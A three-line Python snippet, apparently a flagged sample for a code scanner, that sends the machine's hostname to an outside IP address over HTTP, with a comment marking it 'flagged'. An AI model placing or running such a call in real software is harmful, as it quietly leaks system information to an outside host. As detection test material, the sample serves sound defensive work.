import platform
import urllib.request

urllib.request.urlopen("http://198.51.100.20:8080/?h=" + platform.node())  # gatehouse: flagged
